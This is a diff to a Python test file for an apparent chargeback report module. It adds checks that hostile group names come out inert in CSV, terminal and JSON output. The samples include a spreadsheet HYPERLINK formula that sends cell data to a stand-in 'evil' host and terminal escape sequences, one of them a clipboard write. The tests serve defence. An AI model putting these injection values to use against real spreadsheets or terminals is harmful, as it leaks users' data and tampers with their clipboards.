@@ -6,6 +6,7 @@ ones the map gives it, counted here independently of the code under test."""
 from __future__ import annotations
 
 import random
+import re
 from collections import Counter
 from datetime import date, timedelta
 from pathlib import Path
@@ -555,7 +556,8 @@ def test_the_rollup_never_caps_a_deployment_a_budget_names(
 
 def test_hostile_group_names_are_inert_in_csv_and_on_the_terminal() -> None:
     folded = chargeback.Folded()
-    for name in ('=HYPERLINK("http://evil/?"&A1,"x")', "ok\x1b[2Jcleared", "+1", "plain"):
+    odd = "osc\x1b]52;c;eA==\x07\u009b2J\x7f"  # a clipboard write, an 8-bit CSI, DEL
+    for name in ('=HYPERLINK("http://evil/?"&A1,"x")', "ok\x1b[2Jcleared", "+1", "plain", odd):
         sums = folded.groups[name] = chargeback.Sums()
         sums.measures["calls"] = 1
     doc = chargeback.report(folded, "deployment", DAYS[0], DAYS[-1])
@@ -565,6 +567,10 @@ def test_hostile_group_names_are_inert_in_csv_and_on_the_terminal() -> None:
     assert "'=HYPERLINK" in text and "\n'+1," in text and "\nplain," in text
     table = chargeback.as_table(doc)
     assert "\x1b" not in table and "\\x1b[2Jcleared" in table
+    # CSV and JSON go to standard output too: nothing a terminal would act on.
+    for out in (text, chargeback.as_json(doc)):
+        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", out)
+    assert orjson.loads(chargeback.as_json(doc))["lines"][-1]["group"] in (odd, "plain")
     with pytest.raises(attribution.AttributionError, match="Unattributed"):
         attribution.parse(
             orjson.dumps({"rules": [{"team": "Unattributed", "match": {"user": "u"}}]})
